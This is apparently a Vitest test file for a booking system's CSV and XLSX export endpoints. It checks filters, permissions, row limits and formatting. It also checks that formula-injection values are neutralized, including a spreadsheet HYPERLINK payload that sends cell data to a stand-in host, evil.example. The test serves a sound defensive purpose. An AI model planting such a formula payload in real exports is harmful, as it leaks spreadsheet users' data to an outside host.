import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq, sql } from 'drizzle-orm';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { baseAccounts } from '../../db/schema/accounts.ts';
import { useTestApp } from '../../test/app.ts';
import { createSellableOffer } from '../../test/availability-factories.ts';
import { expectError } from '../../test/errors.ts';
import { createMember, useAccount } from '../../test/factories.ts';
import { book, orderRequests, reserveParty } from '../../test/order-factories.ts';
import { salesMix } from '../../test/sales-mix-factories.ts';

// Exports of the lists: the list's filters, every cell safe from formula injection, CSV and XLSX.
const t = useTestApp();
const a = useAccount(t);
const b = useAccount(t);
const DAY = '2026-12-01';
const { get, post } = orderRequests(t, a);
beforeEach(() => {
  t.clock.now = new Date('2026-11-30T08:00:00Z');
});

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
let orders: { id: string; reference: string }[] = [];
beforeAll(async () => {
  t.clock.now = new Date('2026-11-30T08:00:00Z');
  const offer = await createSellableOffer(t, a, { lines: [{ time: '10:00' }] });
  const people = [
    { first_name: EVIL, last_name: '+Plus', email: 'evil@example.test' },
    { first_name: 'Grace', last_name: '-Minus', email: 'grace@example.test' },
    { first_name: 'Alan', last_name: '@At', email: 'alan@example.test' },
  ];
  orders = [];
  for (const who of people) {
    const hold = await reserveParty(t, a, offer, DAY, { adults: 1 });
    const res = await book(t, a, hold.id, who);
    expect(res.statusCode, res.body).toBe(201);
    orders.push(res.json());
  }
  expect((await post(`/api/orders/${orders[2].id}/cancel/`)).statusCode).toBe(200);
});

/** CSV body as rows of cells (the test's own parser: quoted cells, doubled quotes, CRLF). */
const parseCsv = (body: string) => {
  expect(body.startsWith('\ufeff')).toBe(true);
  const rows = body.slice(1).trimEnd().split('\r\n');
  return rows.map((row) => [...row.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replaceAll('""', '"')));
};

/** The first sheet's XML of an XLSX file (unzipped with the system's unzip). */
const sheetXml = (bytes: Buffer) => {
  const dir = mkdtempSync(join(tmpdir(), 'xlsx-'));
  writeFileSync(join(dir, 'file.xlsx'), bytes);
  const sheet = execFileSync('unzip', ['-p', join(dir, 'file.xlsx'), 'xl/worksheets/sheet1.xml']).toString('utf8');
  let shared = '';
  try {
    shared = execFileSync('unzip', ['-p', join(dir, 'file.xlsx'), 'xl/sharedStrings.xml']).toString('utf8');
  } catch {
    // inline strings only
  }
  return { sheet, shared };
};

/** The sheet, its shared strings and its styles (where number formats live). */
const xlsxParts = (bytes: Buffer) => {
  const dir = mkdtempSync(join(tmpdir(), 'xlsx-'));
  writeFileSync(join(dir, 'file.xlsx'), bytes);
  const part = (name: string) => {
    try {
      return execFileSync('unzip', ['-p', join(dir, 'file.xlsx'), name]).toString('utf8');
    } catch {
      return '';
    }
  };
  return { sheet: part('xl/worksheets/sheet1.xml'), shared: part('xl/sharedStrings.xml'), styles: part('xl/styles.xml') };
};

describe('orders export', () => {
  it('is CSV with the list’s filters, every formula-looking cell kept as text', async () => {
    const res = await get('/api/orders/export/');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.body);
    expect(rows[0].slice(0, 3)).toEqual(['Reference', 'Created', 'Status']);
    expect(rows).toHaveLength(4);
    const cells = rows.flat();
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).toContain("'+Plus");
    expect(cells).toContain("'-Minus");
    expect(cells).toContain("'@At");
    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);

    const canceled = parseCsv((await get('/api/orders/export/?status=canceled')).body);
    expect(canceled.slice(1).map((r) => r[0])).toEqual([orders[2].reference]);
    const searched = parseCsv((await get('/api/orders/export/?search=grace%40example.test')).body);
    expect(searched.slice(1).map((r) => r[0])).toEqual([orders[1].reference]);
    const ordered = parseCsv((await get('/api/orders/export/?ordering=number')).body);
    expect(ordered.slice(1).map((r) => r[0])).toEqual(orders.map((o) => o.reference));
  });

  it('is XLSX on request, with text cells (never formulas)', async () => {
    const res = await get('/api/orders/export/?format=xlsx&status=confirmed');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/filename="orders-.*\.xlsx"/);
    const { sheet, shared } = sheetXml(res.rawPayload);
    expect(sheet).not.toContain('<f>');
    const text = sheet + shared;
    // The value as it is (XML-escaped), in a string cell.
    expect(text).toContain('<t>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</t>');
    expect(text).toContain('+Plus');
    expect(text).not.toContain('@At'); // canceled: filtered out
  });

  it('refuses bad filters as the list does, other permissions and other organizations’ rows', async () => {
    expectError(await get('/api/orders/export/?status=lost'), 400, { attr: 'status' });
    expectError(await get('/api/orders/export/?format=pdf'), 400, { attr: 'format' });
    const viewer = await createMember(t, a, ['View experiences']);
    expectError(await get('/api/orders/export/', viewer.headers), 403, { code: 'permission_denied' });
    const theirs = parseCsv((await get('/api/orders/export/', b.owner.headers)).body);
    expect(theirs).toHaveLength(1);
  });
});

describe('manifest, customers and resales exports', () => {
  it('the day’s manifest with the list’s filters', async () => {
    const res = await get(`/api/bookings/by-date/export/?date=${DAY}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="manifest-${DAY}.csv"`);
    const rows = parseCsv(res.body);
    expect(rows[0]).toEqual([
      'Time',
      'Offer',
      'Order',
      'First name',
      'Last name',
      'Email',
      'Phone',
      'Participants',
      'Party',
      'Status',
      'Attendance',
    ]);
    expect(rows).toHaveLength(4);
    expect(rows[1][8]).toMatch(/^1 × Adult/);
    const active = parseCsv((await get(`/api/bookings/by-date/export/?date=${DAY}&status=canceled`)).body);
    expect(active.slice(1).map((r) => r[2])).toEqual([orders[2].reference]);
    expectError(await get('/api/bookings/by-date/export/'), 400, { attr: 'date' });
    const xlsx = await get(`/api/bookings/by-date/export/?date=${DAY}&format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    expect(sheetXml(xlsx.rawPayload).sheet).not.toContain('<f>');
  });

  it('customers with the search of the list', async () => {
    const all = parseCsv((await get('/api/customers/export/')).body);
    expect(all).toHaveLength(4);
    expect(all.flat()).toContain(`'${EVIL}`);
    const one = parseCsv((await get('/api/customers/export/?search=alan')).body);
    expect(one.slice(1).map((r) => r[2])).toEqual(['alan@example.test']);
  });

  it('resales: the header row when there are none; the list’s filters are checked', async () => {
    const res = await get('/api/resales/export/?side=reseller&format=csv');
    expect(res.statusCode, res.body).toBe(200);
    const rows = parseCsv(res.body);
    expect(rows).toHaveLength(1);
    expect(rows[0].slice(0, 4)).toEqual(['Reference', 'Created', 'Supplier', 'Reseller']);
    expectError(await get('/api/resales/export/?side=both'), 400, { attr: 'side' });
  });
});

describe('a long list', () => {
  const c = useAccount(t);
  const ROWS = 10_001;
  beforeAll(async () => {
    await t.db.execute(sql`
      insert into customers (id, account_id, first_name, last_name, email)
      select gen_random_uuid(), ${c.account.id}, 'Guest', 'Guest ' || lpad(n::text, 5, '0'), 'guest-' || n || '@example.test'
      from generate_series(1, ${ROWS}) as n`);
  });

  it('CSV holds every row in the list’s order (streamed past the XLSX limit); XLSX refuses it before writing', async () => {
    const { get: getC } = orderRequests(t, c);
    const res = await getC('/api/customers/export/?ordering=last_name');
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    expect(rows).toHaveLength(ROWS + 1);
    const names = rows.slice(1).map((r) => r[1]);
    expect(names[0]).toBe('Guest 00001');
    expect(names.at(-1)).toBe(`Guest ${ROWS}`);
    expect(new Set(names).size).toBe(ROWS);
    expect(names).toEqual([...names].sort());

    const xlsx = await getC('/api/customers/export/?format=xlsx');
    expectError(xlsx, 400, { code: 'export_too_large' }, 'client_error');
    expect(xlsx.json().errors[0].detail).toContain('more than 10,000 rows');
    expect(xlsx.headers['content-disposition']).toBeUndefined();

    const narrowed = parseCsv((await getC('/api/customers/export/?search=guest-10001%40')).body);
    expect(narrowed.slice(1).map((r) => r[2])).toEqual(['guest-10001@example.test']);
  });
});

// Issue 23: real dates, numbers for money, the store and seller filled, and one row per order line.
describe('what the exports hold', () => {
  const DAY1 = '2026-12-01';
  let mix: Awaited<ReturnType<typeof salesMix>>;
  beforeAll(async () => {
    t.clock.now = new Date('2026-11-30T08:00:00Z');
    mix = await salesMix(t, DAY1, '2026-12-03');
    await t.db
      .update(baseAccounts)
      .set({ profile: sql`${baseAccounts.profile} || '{"timezone":"Europe/Berlin"}'::jsonb` })
      .where(eq(baseAccounts.id, mix.supplier.account.id));
  });
  const getS = (url: string) => t.app.inject({ url, headers: mix.supplier.owner.headers });
  const byHeader = (rows: string[][]) => rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));

  it('orders CSV: readable dates in the organization’s zone, activity date, offer, seller, store', async () => {
    const rows = byHeader(parseCsv((await getS('/api/orders/export/')).body));
    const of = (ref: string) => rows.find((r) => r.Reference === ref) ?? {};
    // Made at 08:00 UTC: 09:00 in Berlin.
    expect(of(mix.references.backoffice)).toMatchObject({
      Created: '2026-11-30 09:00',
      'Activity date': `${DAY1} 15:30`,
      Offer: 'Harbour kayak tour + 1 more',
      Seller: 'Mia Member',
      Store: '',
      Channel: 'Back office',
      Language: 'sl',
    });
    expect(of(mix.references.online)).toMatchObject({ Store: 'Harbour kiosk', Seller: '', Language: 'de' });
    expect(of(mix.references.resale)).toMatchObject({
      Store: 'City Guide Store',
      Seller: `Org ${mix.reseller.subdomain} (reseller)`,
    });
  });

  it('orders XLSX: date cells with a date format, amounts as numbers', async () => {
    const res = await getS('/api/orders/export/?format=xlsx');
    expect(res.statusCode, res.body).toBe(200);
    const { sheet, styles } = xlsxParts(res.rawPayload);
    // 2026-11-30 09:00 as an Excel serial number (days since 1899-12-30), in a numeric cell.
    const serial = (Date.UTC(2026, 10, 30, 9, 0) / 86_400_000 + 25569).toString();
    const dateCell = sheet.match(new RegExp(`<c r="B2"[^>]*s="(\\d+)"[^>]*><v>${serial.slice(0, 10)}`));
    expect(dateCell, sheet.slice(0, 2000)).not.toBeNull();
    expect(styles).toContain('formatCode="yyyy-mm-dd hh:mm"');
    // No ISO string anywhere, and the total is a number cell.
    expect(sheet + xlsxParts(res.rawPayload).shared).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:/);
    expect(sheet).toMatch(/<c r="[A-Z]+2"( s="\d+")?><v>\d+(\.\d+)?<\/v><\/c>/);
  });

  it('lines export: one row per order line with its offer, service date in the offer’s zone, party, amount, seller and store', async () => {
    const res = await getS('/api/orders/export/lines/');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/filename="order-lines-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = byHeader(parseCsv(res.body));
    expect(rows).toHaveLength(4);
    const backoffice = rows.filter((r) => r.Order === mix.references.backoffice);
    expect(backoffice.map((r) => [r.Offer, r['Service date'], r['Time zone'], r.Party, r['Line amount'], r.Seller])).toEqual([
      [
        'Harbour kayak tour',
        '2026-12-03 10:00',
        'Europe/Berlin',
        expect.stringMatching(/^2 × Adult/),
        expect.stringMatching(/^\d+(\.\d+)?$/),
        'Mia Member',
      ],
      [
        'Old town walk',
        `${DAY1} 15:30`,
        'Europe/Berlin',
        expect.stringMatching(/^1 × Adult/),
        expect.stringMatching(/^\d+(\.\d+)?$/),
        'Mia Member',
      ],
    ]);
    expect(rows.find((r) => r.Order === mix.references.resale)).toMatchObject({
      Store: 'City Guide Store',
      Seller: `Org ${mix.reseller.subdomain} (reseller)`,
      Participants: '2',
    });
    const xlsx = await getS(`/api/orders/export/lines/?format=xlsx&search=${encodeURIComponent(mix.references.resale)}`);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsxParts(xlsx.rawPayload).sheet).toContain('<c r="A2"');
    expect(xlsxParts(xlsx.rawPayload).sheet).not.toContain('<c r="A3"');
  });

  it('customers: Spent is a number beside its currency, Created a date', async () => {
    await t.app.inject({
      method: 'POST',
      url: `/api/orders/${mix.backofficeId}/payments/`,
      headers: mix.supplier.owner.headers,
      payload: { idempotency_key: crypto.randomUUID(), method: 'cash', amount: 1000 },
    });
    const rows = byHeader(parseCsv((await getS('/api/customers/export/')).body));
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) {
      expect(r.Spent).toMatch(/^\d+(\.\d+)?$/);
      expect(r.Created).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    }
    expect(rows.some((r) => r.Currency === 'EUR' && Number(r.Spent) > 0)).toBe(true);
    const xlsx = xlsxParts((await getS('/api/customers/export/?format=xlsx')).rawPayload);
    expect(xlsx.shared + xlsx.sheet).not.toMatch(/\d+(\.\d+)? EUR/);
  });
});
